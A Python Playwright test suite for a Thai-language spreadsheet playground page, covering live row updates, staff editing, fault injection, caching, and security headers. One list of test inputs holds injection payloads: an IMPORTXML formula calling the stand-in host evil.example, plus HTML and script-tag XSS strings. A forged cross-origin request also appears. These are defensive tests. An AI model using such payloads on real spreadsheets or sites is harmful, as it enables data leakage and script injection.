"""The grid page: rows appear by themselves, hostile text stays text, staff can act by hand. In a real Chromium."""

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from playwright.sync_api import ConsoleMessage, Dialog, Page, expect, sync_playwright

from bot.playground.sheets import LocalSheets
from bot.playground.sheets_calls import understand
from bot.playground.sheets_http import running_sheets

CHROMIUM = Path(os.environ.get("CHROMIUM", "/usr/bin/chromium"))
FLAGS = "--no-sandbox --disable-gpu --no-first-run --disable-background-networking --disable-component-update".split()
needs_browser = pytest.mark.skipif(not CHROMIUM.exists() and "CI" not in os.environ, reason="no Chromium here")
HOSTILE = ['=IMPORTXML("http://evil.example", "//a")', "<img src=x onerror=alert(1)>", "</td><script>alert(2)</script>"]


@pytest.fixture
def sheets() -> LocalSheets:
    sheets = LocalSheets()
    sheets.create_spreadsheet("demo", "แบบสอบถามความเห็น")
    append(sheets, ["รหัส", "เดือน", "คะแนน"], ["ข", "ก.พ. 2569", 80.5], ["ก", "ม.ค. 2569", 100])
    sheets.change("demo", lambda book: setattr(book.tab(0), "frozen_rows", 1))
    return sheets


@pytest.fixture
def base_url(sheets: LocalSheets) -> Iterator[str]:
    with running_sheets(sheets) as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=[*FLAGS, "--disable-sync"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser: Any, base_url: str) -> Iterator[Page]:
    """The page, opened; any console error (CSP violations come that way) or dialog box fails the test."""
    page: Page = browser.new_page(viewport={"width": 1200, "height": 760}, locale="th-TH")
    troubles: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        if message.type == "error" and "status of 400" not in message.text:  # a refusal that the page shows in words
            troubles.append(message.text)

    def close(dialog: Dialog) -> None:
        troubles.append(dialog.message)
        dialog.dismiss()

    page.on("console", hear)
    page.on("pageerror", lambda error: troubles.append(str(error)))
    page.on("dialog", close)
    page.goto(base_url)
    page.wait_for_selector("td.number")
    yield page
    page.close()
    assert troubles == []


def append(sheets: LocalSheets, *lines: list[Any]) -> None:
    def typed(value: Any) -> dict[str, Any]:
        if isinstance(value, str):
            return {"userEnteredValue": {"stringValue": value}}
        look = {"numberFormat": {"type": "NUMBER", "pattern": "0.00"}}
        return {"userEnteredValue": {"numberValue": value}, "userEnteredFormat": look}

    rows = [{"values": [typed(value) for value in line]} for line in lines]
    request = {"appendCells": {"sheetId": 0, "rows": rows, "fields": "*"}}
    sheets.perform(understand("POST", "demo:batchUpdate"), {}, {"requests": [request]})


def cell(page: Page, address: str) -> Any:
    column, row = ord(address[0]) - 65, int(address[1:]) - 1
    return page.locator(f'td[data-row="{row}"][data-column="{column}"]')


@needs_browser
@pytest.mark.browser
def test_new_rows_appear_by_themselves_and_flash(page: Page, sheets: LocalSheets) -> None:
    assert page.locator("tr.fresh").count() == 0

    append(sheets, ["ค", "มี.ค. 2569", 66.666])

    expect(cell(page, "C4")).to_have_text("66.67")
    expect(page.locator("tr.fresh")).to_have_count(1)
    expect(page.locator("#place")).to_have_text("3 แถว")


@needs_browser
@pytest.mark.browser
def test_hostile_text_is_shown_as_text(page: Page, sheets: LocalSheets) -> None:
    append(sheets, HOSTILE)

    for address, text in zip(("A4", "B4", "C4"), HOSTILE, strict=True):
        expect(cell(page, address)).to_have_text(text)
    assert page.locator("td img, td script").count() == 0


@needs_browser
@pytest.mark.browser
def test_staff_edit_sort_and_rename_by_hand(page: Page, sheets: LocalSheets) -> None:
    cell(page, "C2").click()
    expect(page.locator("#content")).to_have_value("80.50")
    page.locator("#content").fill("90")
    page.keyboard.press("Enter")
    expect(cell(page, "C2")).to_have_text("90.00")

    cell(page, "A2").click()
    page.get_by_role("button", name="เรียง ก→ฮ").click()
    expect(cell(page, "A2")).to_have_text("ก")
    assert sheets.rows("demo", 0) == [["รหัส", "เดือน", "คะแนน"], ["ก", "ม.ค. 2569", 100], ["ข", "ก.พ. 2569", 90]]

    page.get_by_role("button", name="เปลี่ยนชื่อแท็บ").click()
    page.locator("#ask-input").fill("ชื่อใหม่ของเรา")
    page.keyboard.press("Enter")
    expect(page.get_by_role("tab")).to_have_text("ชื่อใหม่ของเรา")


@needs_browser
@pytest.mark.browser
def test_staff_delete_a_row_after_being_asked_and_cannot_delete_the_last_tab(page: Page, sheets: LocalSheets) -> None:
    cell(page, "A2").click()
    page.get_by_role("button", name="ลบแถว").click()
    page.get_by_role("button", name="ยกเลิก", exact=True).click()
    assert len(sheets.rows("demo", 0)) == 3
    page.get_by_role("button", name="ลบแถว").click()
    page.get_by_role("button", name="ตกลง").click()
    expect(cell(page, "A2")).to_have_text("ก")

    page.get_by_role("button", name="ลบแท็บ").click()
    page.get_by_role("button", name="ตกลง").click()
    expect(page.locator("#toast")).to_have_text("ลบแท็บสุดท้ายไม่ได้ ต้องเหลืออย่างน้อยหนึ่งแท็บ")
    assert len(sheets.rows("demo", 0)) == 2


@needs_browser
@pytest.mark.browser
def test_a_tester_switches_faults_on_and_off(page: Page, sheets: LocalSheets) -> None:
    page.locator("#faults").select_option(label="ล่มก่อนบันทึก (3 ครั้ง)")
    expect(page.locator("#active-faults")).to_have_text("กำลังจำลอง: ก่อนบันทึก 503 อีก 3 ครั้ง")

    page.locator("#faults").select_option(label="ยกเลิกทั้งหมด")
    expect(page.locator("#active-faults")).to_be_empty()
    assert sheets.faults.pending() == []


@needs_browser
@pytest.mark.browser
def test_a_long_sheet_is_shown_in_windows_the_newest_first(page: Page, sheets: LocalSheets) -> None:
    append(sheets, *([f"r{n}", "ก.พ. 2569", n] for n in range(3, 500)))

    expect(page.locator("#place")).to_have_text("แถว 301–500 จาก 499")
    expect(cell(page, "A500")).to_be_in_viewport()
    page.get_by_role("button", name="แรกสุด").click()
    expect(page.locator("#place")).to_have_text("แถว 2–201 จาก 499")
    expect(cell(page, "A1")).to_be_in_viewport()


def test_the_page_asks_often_and_is_answered_304_until_something_changes(base_url: str, sheets: LocalSheets) -> None:
    address = f"{base_url}/playground/api/books/demo/grid"
    first = requests.get(address, timeout=5)
    seen = {"If-None-Match": first.headers["ETag"]}

    assert requests.get(address, headers=seen, timeout=5).status_code == 304
    sheets.staff.edit_cell("demo", 0, "A2", "ใหม่")
    assert requests.get(address, headers=seen, timeout=5).status_code == 200


def test_a_strict_policy_and_no_orders_from_other_pages(base_url: str) -> None:
    policy = requests.get(base_url, timeout=5).headers["Content-Security-Policy"]
    order = {"action": "delete_rows", "tab": 0, "start": 1}
    other = {"Origin": "http://evil.example"}
    answer = requests.post(f"{base_url}/playground/api/books/demo/staff", json=order, headers=other, timeout=5)

    assert "default-src 'none'; script-src 'self'; style-src 'self'" in policy
    assert "unsafe" not in policy
    assert answer.status_code == 403
